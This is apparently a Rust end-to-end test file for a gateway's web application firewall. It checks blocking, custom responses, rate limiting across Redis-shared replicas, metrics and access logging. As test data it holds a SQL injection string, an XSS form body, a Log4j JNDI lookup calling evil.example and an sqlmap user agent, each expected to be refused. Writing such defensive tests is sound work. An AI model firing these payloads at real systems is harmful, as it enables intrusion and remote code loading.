//! The WAF end to end, over TCP, on `specs/waf` (generated and served): clean requests pass,
//! SQL injection (managed `sql_database` group), XSS, a Log4j lookup (`known_bad_inputs`) and a
//! scanner's user agent (custom 406) are refused, an `X-Forwarded-For` from an untrusted peer
//! does not put a client in the blocked IP set, the route's rate-based rule blocks the sixth
//! order in a minute, `/metrics` counts per rule and the access log names the rule; and the
//! rate-based rule counts across two replicas sharing Redis. Rule by rule semantics (trusted
//! proxies, oversize, geo, overrides) are tested in `runtime/src/step/waf/tests.rs`.

use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use http::Method;

use crate::harness::client::{self, TestBody};
use crate::harness::{Backend, Target, TestResult, annotate, eventually};

fn targets() -> [Target; 2] {
    [Target::Example("waf"), Target::serve_example("waf")]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_block_count_and_log_over_tcp() -> TestResult {
    let backend = Backend::start().await?;
    for target in targets() {
        let gw = target.start(&backend.url(), &["--admin-listen", "127.0.0.1:0"])?;
        let check = async {
            let addr = gw.addr();
            let get = |path: &str| client::get(addr, path);
            let ok = client::send(addr, get("/products?q=blue+shoes")?).await?;
            ensure_eq!(ok.status, 200, "a clean request");

            let sqli = client::send(addr, get("/products?id=1%27%20OR%20%271%27%3D%271")?).await?;
            ensure_eq!(sqli.status, 403, "SQL injection");
            ensure_eq!(sqli.json()?["message"], "Forbidden", "WAF_FILTERED body");

            let xss = client::request(Method::POST, addr, "/orders")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(TestBody::full("note=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"))?;
            ensure_eq!(
                client::send(addr, xss).await?.status,
                403,
                "XSS in a form body"
            );

            let log4j = client::request(Method::GET, addr, "/products")
                .header("x-api-version", "${jndi:ldap://evil.example/a}")
                .body(TestBody::empty())?;
            ensure_eq!(client::send(addr, log4j).await?.status, 403, "Log4j lookup");

            let scanner = client::request(Method::GET, addr, "/products")
                .header("user-agent", "sqlmap/1.7.2#stable")
                .body(TestBody::empty())?;
            let reply = client::send(addr, scanner).await?;
            ensure_eq!(reply.status, 406, "custom response status");
            ensure_eq!(reply.header("x-blocked-by"), Some("gwc"), "custom header");
            ensure_eq!(
                reply.text(),
                r#"{"message":"scanners are not welcome"}"#,
                "custom body"
            );

            let spoofed = client::request(Method::GET, addr, "/products")
                .header("x-forwarded-for", "198.51.100.7")
                .body(TestBody::empty())?;
            ensure_eq!(
                client::send(addr, spoofed).await?.status,
                200,
                "X-Forwarded-For from an untrusted peer is ignored"
            );

            for i in 1..=5 {
                let order =
                    client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
                ensure_eq!(client::send(addr, order).await?.status, 200, "order {i}");
            }
            let order =
                client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
            ensure_eq!(
                client::send(addr, order).await?.status,
                403,
                "the sixth order in a minute"
            );

            let admin = gw.admin_addr().ok_or("no admin line")?;
            let page = client::send(admin, client::get(admin, "/metrics")?)
                .await?
                .text();
            for series in [
                "gwc_waf_api_sql_sqli_queryarguments_blocked_total{api=\"waf\",stage=\"prod\",method=\"\",route=\"(unmatched)\"} 1",
                "gwc_waf_createorder_order_flood_blocked_total{api=\"waf\",stage=\"prod\",method=\"POST\",route=\"/orders\"} 1",
            ] {
                ensure!(page.contains(series), "no `{series}` in\n{page}");
            }
            let lines = eventually(Duration::from_secs(5), || async {
                let lines: Vec<serde_json::Value> = gw
                    .stdout_lines()
                    .iter()
                    .filter_map(|l| serde_json::from_str(l).ok())
                    .collect();
                (lines.len() >= 12).then_some(lines)
            })
            .await
            .ok_or("fewer than 12 access-log lines")?;
            let sqli_line = lines
                .iter()
                .find(|l| l["wafRule"] == "sql/SQLi_QUERYARGUMENTS")
                .ok_or("no access-log line names the SQLi rule")?;
            ensure_eq!(sqli_line["wafResponseCode"], "WAF_BLOCK", "wafResponseCode");
            ensure_eq!(sqli_line["errorType"], "WAF_FILTERED", "errorType");
            TestResult::Ok(())
        };
        check.await.map_err(|e| annotate(&gw, e))?;
    }
    Ok(())
}

/// A `redis-server` on a free loopback port, killed on drop.
struct Redis {
    child: Child,
    port: u16,
}

impl Drop for Redis {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn redis() -> Option<Redis> {
    let port = TcpListener::bind("127.0.0.1:0")
        .ok()?
        .local_addr()
        .ok()?
        .port();
    let child = Command::new("redis-server")
        .args([
            "--port",
            &port.to_string(),
            "--bind",
            "127.0.0.1",
            "--save",
            "",
            "--appendonly",
            "no",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    for _ in 0..100 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return Some(Redis { child, port });
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    None
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_based_rules_are_shared_by_replicas_through_redis() -> TestResult {
    let Some(redis) = redis() else {
        eprintln!("SKIPPED: redis-server could not be started (install the redis-server package)");
        return Ok(());
    };
    let backend = Backend::start().await?;
    let url = format!("redis://127.0.0.1:{}", redis.port);
    let target = Target::serve_example("waf");
    let a = target.start(&backend.url(), &["--state", &url])?;
    let b = target.start(&backend.url(), &["--state", &url])?;
    let mut statuses = Vec::new();
    for i in 0..6 {
        let gw = if i % 2 == 0 { &a } else { &b };
        let order =
            client::request(Method::POST, gw.addr(), "/orders").body(TestBody::full("{}"))?;
        statuses.push(client::send(gw.addr(), order).await?.status.as_u16());
    }
    ensure_eq!(
        statuses,
        vec![200, 200, 200, 200, 200, 403],
        "orders alternating between replicas"
    );
    Ok(())
}
